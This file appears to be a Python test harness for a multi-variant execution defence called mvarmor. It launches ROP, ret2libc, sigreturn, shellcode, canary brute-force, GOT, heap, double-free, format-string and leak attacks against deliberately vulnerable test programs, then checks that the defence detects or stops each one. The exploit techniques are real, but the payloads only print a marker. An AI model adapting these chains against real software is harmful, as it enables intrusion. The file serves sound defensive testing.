#!/usr/bin/python3
# test: timeout=120
"""Attacks that succeed natively, and what becomes of the same bytes when the program has twins.

attacks.py --list names them; attacks.py NAME does one: natively, where it must succeed, then under mvarmor with the policies exec and
leak.  Exit status 0 if all was as it must be, 77 to skip, else 1.
"""
import dataclasses
import json
import os
import re
import signal
import socket
import struct
import subprocess
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), ".."))
from target import LIBC, Refused, Target, p64, read_maps, symbols

MVARMOR = json.loads(os.environ.get("MV_TEST_MVARMOR", '["mvarmor", "run"]'))
PROGRAMS = os.path.join(os.environ.get("MV_TEST_BUILD", "build"), "tests", "attack")
POLICIES = ("exec", "leak")
ATTACKS = {}

# How the variants come to disagree.
FAULT = r"variant \d got SIG(SEGV|BUS|ILL|TRAP|FPE) where the leader calls "
BYTES = r"argument [23] differs"		# what is sent, or how much
OTHERS = r"leader calls .*, variant \d calls "


@dataclasses.dataclass
class Attack:
    name: str
    what: str			# for the table
    victim: str
    attack: object		# sends the bytes
    differs: str		# which property of a variant makes the attack miss
    call: str			# at which call that is noticed: a pattern of the report's first line
    detected: str		# "always", "mostly" (a matter of chance), "never", "fails" (no effect, stopped or not)
    prevents: tuple		# policies under which the attack has no effect
    success: object		# of (target, output): did it work?
    options: tuple = ()		# of mvarmor's

    @property
    def program(self):
        path = os.path.abspath(os.path.join(PROGRAMS, self.victim))
        if not os.path.exists(path):
            raise Wrong(f"{path} was not built")
        return path


class Wrong(Exception):
    pass


def pwned(target, output):
    return b"PWNED" in output


def attack(what, victim, differs="address", call=FAULT + r"execve\(", detected="always", prevents=POLICIES, success=pwned,
           options=()):
    def register(function):
        name = function.__name__
        ATTACKS[name] = Attack(name, what, victim, function, differs, call, detected, prevents, success, options)
        return function
    return register


# ---- the stack ----

POP_RDI, POP_RSI, POP_RAX, RET, LEAVE = b"\x5f\xc3", b"\x5e\xc3", b"\x58\xc3", b"\xc3", b"\xc9\xc3"
SYSCALL = b"\x0f\x05\xc3"


def smash(t, chain, saved_rbp=0, store=b""):
    t.lump(store)
    t.lump(b"A" * (t.distance - 8) + p64(saved_rbp) + chain)


def rdx(t, value):
    try:
        return p64(t.gadget(b"\x5a\xc3"), value)
    except LookupError:
        return p64(t.gadget(b"\x5a\x5b\xc3"), value, 0)		# pop rdx; pop rbx; ret


@attack("return address, absolute", "stack_overflow")
def return_address(t):
    smash(t, p64(t.symbol("win")))


@attack("return address, program at a fixed address (not PIE)", "stack_overflow_fixed", differs="nothing", call="",
        detected="never", prevents=())
def return_address_fixed(t):
    smash(t, p64(t.symbol("win")))


@attack("ROP: execve(\"/bin/sh\") by gadgets of libc", "stack_overflow")
def rop(t):
    shell = t.string(b"/bin/sh")
    smash(t, p64(t.gadget(POP_RDI), shell, t.gadget(POP_RSI), 0) + rdx(t, 0) + p64(t.symbol("execve", LIBC)))
    t.send(b"echo PWNED\n")


@attack("return to libc: system(text)", "stack_overflow", call=FAULT + r"rt_sigaction\(2, ")
def ret2libc(t):
    command = t.find(b"the buffer on the stack") + t.distance + 8 * 4
    smash(t, p64(t.gadget(POP_RDI), command, t.gadget(RET), t.symbol("system", LIBC)) + b"echo PWNED\0")


@attack("stack pivot into a buffer", "stack_overflow")
def stack_pivot(t):
    store = t.symbol("store") + 8192
    smash(t, p64(t.gadget(LEAVE)), saved_rbp=store, store=bytes(8192) + p64(0, t.symbol("win")))


def sigreturn_frame(**registers):
    """What the kernel restores: ucontext up to the mask, no floating point state."""
    order = ("r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15", "rdi", "rsi", "rbp", "rbx", "rdx", "rax", "rcx", "rsp", "rip")
    body = p64(*(registers.get(r, 0) for r in order), 0x202) + struct.pack("<HHHH", 0x33, 0, 0, 0x2B)
    return bytes(40) + body + bytes(8 * 12) + bytes(128)


@attack("sigreturn-oriented: one forged signal frame", "stack_overflow", call=FAULT + r"rt_sigreturn\(")
def sigreturn(t):
    shell, syscall = t.string(b"/bin/sh"), t.gadget(SYSCALL)
    frame = sigreturn_frame(rax=59, rdi=shell, rip=syscall, rsp=t.symbol("store") + 8192)
    smash(t, p64(t.gadget(POP_RAX), 15, syscall) + frame)
    t.send(b"echo PWNED\n")


# write(1, "PWNED\n", 6); exit(0), wherever it lies
SHELLCODE = bytes.fromhex("b801000000 bf01000000 488d3510000000 ba06000000 0f05 b83c000000 31ff 0f05") + b"PWNED\n"


@attack("ROP: mprotect, then shellcode", "stack_overflow", call=FAULT + r"mprotect\(")
def mprotect_shellcode(t):
    store = t.symbol("store")
    chain = p64(t.gadget(POP_RDI), store, t.gadget(POP_RSI), 4096) + rdx(t, 7) + p64(t.symbol("mprotect", LIBC), store)
    smash(t, chain, store=SHELLCODE)


@attack("canary guessed byte by byte across forks", "stack_protected", differs="canary", call=OTHERS, success=lambda t, o: t.guessed)
def canary_brute_force(t):
    """The last word before the saved frame pointer; its lowest byte is 0.  Each guess costs the server one child."""
    t.guessed = False
    known = b"\0"
    room = t.distance - 16
    while len(known) < 8:
        for guess in range(256):
            t.lump(b"A" * room + known + bytes([guess]))
            line = t.line()
            if line == b"served\n":
                known += bytes([guess])
                t.line()
                t.ready()
                break
            if line != b"gone\n":
                return
            t.ready()
        else:
            raise Wrong(f"no byte fits behind {known.hex()}")
    t.guessed = True


# ---- pointers to code ----

def overwrite_done(t, nbytes):
    t.lump(b"A" * t.distance + p64(t.symbol("near_win"))[:nbytes])


@attack("pointer to a function, absolute", "function_pointer")
def function_pointer(t):
    overwrite_done(t, 8)


def partial(nbytes, **expected):
    def function(t):
        overwrite_done(t, nbytes)
    function.__name__ = f"partial_{nbytes}"
    attack(f"pointer to a function, lowest {nbytes} byte{'s' if nbytes > 1 else ''}", "function_pointer", **expected)(function)


partial(1, differs="nothing", call="", detected="never", prevents=())
for count in (2, 3, 4):
    partial(count, detected="mostly", call=rf"({FAULT}|{OTHERS})")
partial(5)


@attack("GOT entry, by an unchecked index", "table_index")
def got_overwrite(t):
    path = os.path.realpath(t.program)
    t.send(struct.pack("<qQ", (got_entry(path, "puts") - symbols(path)["table"]) // 8, t.symbol("win")))


def got_entry(path, function):
    """Where the program's relocation for the function is."""
    text = subprocess.run(["readelf", "-rW", path], stdout=subprocess.PIPE, check=True, text=True).stdout
    return int(re.search(rf"^([0-9a-f]+) .* {function}@", text, re.M)[1], 16)


# ---- the heap ----

def address_of_win(t):
    return p64(t.symbol("win"))


@attack("heap overflow into a neighbour's callback", "heap_overflow")
def heap_callback(t):
    t.lump(b"A" * t.distance + p64(0) + address_of_win(t))


@attack("heap overflow into a neighbour's flag (data only)", "heap_overflow", differs="nothing", call="", detected="never", prevents=())
def heap_flag(t):
    t.lump(b"A" * t.distance + p64(1))


@attack("heap overflow into a neighbour's pointer to its class's functions", "vtable")
def vtable(t):
    """The forged table is in the buffer itself."""
    forged = t.find(b"the buffer on the heap")
    t.lump(address_of_win(t) * 2 + b"A" * (t.distance - 16) + p64(forged))


@attack("use after free, block allocated again", "use_after_free")
def use_after_free(t):
    t.lump(b"a name")
    t.lump(b"A" * t.distance + address_of_win(t))


@attack("double free: allocator made to return a chosen address", "double_free", call=rf"({FAULT}|{OTHERS}writev\(2)")
def double_free(t):
    """tcache: the same block twice in a list, then a forged link (mangled by the place where it is stored)."""
    block = t.find(b"the first block of the heap") + 0x50
    goal = t.find(b"the structure that is attacked")
    t.send(b"a\0a\4f\4f\0w\0")		# one block more, so that the list is long enough at the end
    t.lump(p64(0, 0))			# the key that would tell of the second time
    t.send(b"f\0a\1w\1")
    t.lump(p64(goal ^ block >> 12))
    t.send(b"a\2a\3w\3")
    t.lump(b"A" * t.distance + address_of_win(t))
    t.send(b"e\0")


@attack("off by one: lowest byte of a pointer to methods", "off_by_one")
def off_by_one(t):
    t.lump(bytes(64) + address_of_win(t) * 2)
    t.send(b"A" * t.distance + bytes([64]))


# ---- leaks ----

def contains_address(t, output):
    """Does the output tell an address of the leader's, as text or as bytes?"""
    told = {int(text, 16) for text in re.findall(rb"0x([0-9a-f]{6,16})", output)}
    told |= {struct.unpack_from("<Q", output, i)[0] for i in range(len(output) - 7)}
    return any(start <= value < end for start, end, *_ in t.maps for value in told)


def leak(what, victim, **expected):
    """What is sent out before the variants are compared has been sent: policy leak prevents, exec only detects."""
    expected = {"differs": "bytes", "call": r"write\(1, \.\.\.\): " + BYTES, "prevents": ("leak",), "success": contains_address, **expected}
    return attack(what, victim, **expected)


@leak("format string: addresses read from the stack", "format_string")
def format_read(t):
    t.send(b"r")
    t.lump(b"%p." * 60)


@attack("format string: %n to an address", "format_string")
def format_write(t):
    goal = t.symbol("is_admin")
    t.send(b"w")
    t.lump(b"AAAA%20$n".ljust(16) + p64(goal) * 28)


@leak("pointer in an answer", "object_id")
def pointer_leak(t):
    t.send(b"x")


def sent_address(t, output):
    return contains_address(t, t.received)


@leak("pointer in an answer, on a socket", "socket_id", call=r"sendto\(4, \.\.\.\): " + BYTES, success=sent_address)
def socket_leak(t):
    t.received = b""
    with socket.create_connection(("127.0.0.1", t.distance), timeout=20) as s:
        s.sendall(b"x")
        try:
            while data := s.recv(100):
                t.received += data
        except ConnectionError:
            pass		# stopped


@leak("uninitialised stack in an answer", "uninitialised")
def uninitialised_stack(t):
    t.send(b"x")


@leak("over-read of stale heap: a pointer", "over_read")
def over_read_pointer(t):
    t.send(b"p\x80")
    t.lump(b"hi")


@leak("over-read of stale heap: bytes that are the same everywhere (Heartbleed)", "over_read", differs="nothing", call="",
      detected="never", prevents=(), success=lambda t, output: b"key of the last guest" in output)
def over_read_key(t):
    t.send(b"s\x80")
    t.lump(b"sixteen letters!")		# glibc's links of free blocks are overwritten: they would differ


@leak("the same, with `--heap all`", "over_read", differs="heap", prevents=POLICIES, options=("--heap", "all"),
      success=lambda t, output: b"key of the last guest" in output)
def over_read_key_heap(t):
    over_read_key(t)


@attack("heap overflow into a neighbour's flag, with `--heap all`", "heap_overflow", differs="heap", call="", detected="fails",
        options=("--heap", "all"))
def heap_flag_heap(t):
    """Over all that is near: what lies behind the buffer is another object, or a guard, in each variant and run."""
    t.lump(b"A" * 80 + p64(1) * 500)


# ---- writing to code, data only ----

@attack("JIT page written at its address", "write_anywhere", call=r"read\(0, \.\.\.\): result differs", prevents=("leak",))
def jit_absolute(t):
    page = t.find(b"the page of the compiler") - 2048
    t.send(b"A" + p64(page))
    t.lump(SHELLCODE)


@attack("JIT page written by an overflow (position-independent code)", "write_anywhere", differs="nothing", call="", detected="never",
        prevents=())
def jit_relative(t):
    t.send(b"R" + p64(0))
    t.lump(SHELLCODE)


@attack("data only: a pointer to what is sent", "data_only", differs="address", call=FAULT + r"write\(", prevents=("leak",))
def data_pointer(t):
    t.lump(b"A" * t.distance + p64(0, t.symbol("secret")))


@attack("data only: a flag", "data_only", differs="nothing", call="", detected="never", prevents=())
def data_flag(t):
    t.lump(b"A" * t.distance + p64(1))


# ---- variants that tell each other things ----

ROLE = 39			# with two variants: the bit of every address that tells them apart


class Covert:
    """A run of covert.c: what the leader's side understood of the other's 16 bits."""

    def __init__(self, kind, policy, *options):
        program = Attack("covert", "", "covert", *[None] * 6).program
        for seed in range(1, 50):
            if os.path.exists("covert.lock"):
                os.unlink("covert.lock")
            t = Target(MVARMOR + ["-n", "2", "-p", policy, "--seed", str(seed), "-o", "covert.log", *options, "--", program, str(ROLE)],
                       program)
            try:
                main = symbols(program)["main"]
                here = {pid: base_of(pid, program) + main for pid in twins(t, program)}
                if len(here) != 2:
                    raise Wrong(f"{len(here)} variants instead of 2")
                if here[t.pid] >> ROLE & 1:
                    continue		# the leader is the one that sends
                t.send(kind)
                self.status, output, self.messages = t.end(60)
            finally:
                t.close()
            other, = (address for pid, address in here.items() if pid != t.pid)
            self.output = output.partition(b"\n")[2]
            self.told = (other >> 12) & 0xFFFF
            return
        raise Wrong("the leader is always the one that sends")


def twins(t, program):
    """The process ids of the variants: whatever runs the program (the tests run nothing else of that name beside it)."""
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if os.readlink(f"/proc/{pid}/exe") == program and starter(int(pid)) == t.process.pid:
                yield int(pid)
        except OSError:
            pass


def starter(pid):
    """The nearest ancestor that does not run the same program, through whatever mvarmor has put in between."""
    ours = os.readlink(f"/proc/{os.getpid()}/exe")
    while pid > 1:
        with open(f"/proc/{pid}/stat", encoding="utf-8", errors="replace") as f:
            parent = int(f.read().rpartition(")")[2].split()[1])
        if os.readlink(f"/proc/{parent}/exe") == ours:
            return pid
        pid = parent
    return 0


def base_of(pid, program):
    return next(start for start, _, _, offset, where in read_maps(pid) if where == program and offset == 0)


def covert(what, kind):
    def check_covert():
        """That they do so is not noticed; that what all understand is the same, and is the leader's, is asserted."""
        for policy in POLICIES:
            c = Covert(kind, policy)
            if c.status or not re.fullmatch(rb"\d+\n", c.output):
                raise Wrong(f"policy {policy}: status {c.status}, output {c.output!r}\n{c.messages}")
    return what, kind, check_covert


COVERT = {
    "covert_clock": covert("variants that signal by being late, measured with rdtsc", b"c"),
    "covert_lock": covert("variants that signal by holding a lock, measured by counting refusals", b"l"),
}


# ---- doing it ----

class Outcome:
    """status: mvarmor's or the program's; line: the report's first; worked: the attack had its effect."""

    def __init__(self, a, prefix, report=None):
        try:
            t = Target(prefix + [a.program], a.program)
        except Refused as e:
            raise Wrong(f"{a.name}: before the attack: {e}") from None
        try:
            t.maps = list(read_maps(t.pid))
            try:
                a.attack(t)
            except Refused:
                pass		# stopped while it went on
            self.status, output, self.messages = t.end()
            self.worked = bool(a.success(t, output.partition(b"\n")[2]))
            self.sent = t.sent
        except PermissionError:
            print("the memory of the program's leader cannot be read by this user")
            sys.exit(77)
        finally:
            t.close()
        self.report = {}
        if report and os.path.exists(report):
            with open(report, encoding="utf-8") as f:
                self.report = json.load(f)
        self.line = self.report.get("line", "")

    def __str__(self):
        return f"status {self.status}, worked: {self.worked}\n{self.line}\n{self.messages[:2000]}"


def armed(a, policy, *options):
    report = f"{a.name}.{policy}.json"
    if os.path.exists(report):
        os.unlink(report)
    command = [*MVARMOR, "-n", "2", "-p", policy, "--report", report, "-o", f"{report}.log", *a.options, *options, "--"]
    return Outcome(a, command, report)


def told_apart(outcome):
    """The attack depends on addresses of the leader's, and the variant that the report tells of has nothing there."""
    other = [(int(region["start"], 16), int(region["end"], 16)) for thread in outcome.report["threads"] if not thread["leader"]
             for region in thread["regions"]]
    if not other:
        raise Wrong("the report does not tell what the other variant has mapped")
    for address in outcome.sent:
        if any(start <= address < end for start, end in other):
            raise Wrong(f"{address:#x} is mapped in variant {outcome.report['difference']['variant']} too")


def check(a):
    native = Outcome(a, [])
    if not native.worked:
        raise Wrong(f"natively the attack should succeed: {native}")
    for policy in POLICIES:
        o = armed(a, policy)
        if a.detected == "never":
            if o.status == 86 or not o.worked:
                raise Wrong(f"policy {policy}: better than is documented: {o}")
            continue
        if a.detected == "fails":
            if o.worked:
                raise Wrong(f"policy {policy}: it has its effect: {o}")
            continue
        if a.detected == "mostly" and o.status != 86:
            # Chance: some seeds must tell the variants apart.
            o = next((o for o in (armed(a, policy, "--seed", str(seed)) for seed in range(1, 17)) if o.status == 86), o)
        if o.status != 86 or not re.match("divergence: " + a.call, o.line):
            raise Wrong(f"policy {policy}: not detected as it should be: {o}")
        if policy in a.prevents and o.worked:
            raise Wrong(f"policy {policy}: detected, but not prevented: {o}")
        if a.differs == "address" and a.detected == "always":
            told_apart(o)
        if a.differs == "bytes" and policy in a.prevents and not o.report["difference"]["pointers"]:
            raise Wrong(f"policy {policy}: the report does not say which bytes are pointers: {o.report['difference']}")


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join([*ATTACKS, *COVERT]))
        return 0
    if len(sys.argv) != 2 or sys.argv[1] not in [*ATTACKS, *COVERT]:
        sys.exit(__doc__)
    signal.signal(signal.SIGPIPE, signal.SIG_IGN)
    try:
        if sys.argv[1] in ATTACKS:
            check(ATTACKS[sys.argv[1]])
        else:
            COVERT[sys.argv[1]][2]()
    except Wrong as e:
        print(e)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
